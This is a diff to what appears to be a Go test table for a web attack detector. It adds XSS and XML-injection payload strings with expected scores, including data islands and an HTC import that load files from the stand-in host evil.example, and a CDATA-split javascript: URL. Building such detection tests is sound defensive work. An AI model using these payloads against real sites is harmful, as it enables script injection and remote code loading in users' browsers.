@@ -25,6 +25,9 @@ var xxeAttacks = []familyCase{
 	{"body:text/plain", `<![CDATA[<script>alert(1)</script>]]>`, 0.99},
 	{"body:text/html", `<HTML xmlns:x><?import namespace="x" implementation="http://evil.example/x.htc"><x:x>X</x:x></HTML>`, 0.99},
 	{"body:text/html", `<xml ID="i"><I><B>x</B></I></xml><SPAN DATASRC="#i" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`, 0.99},
+	{"body:text/html", `<xml SRC="http://evil.example/x.xml" ID=I></xml>`, 0.99},
+	{"body:text/html", `<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`, 0.99},
+	{"body:application/xml", `<x><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></x>`, 0.99},
 }
 
 // HTML and XML that people paste and services exchange.
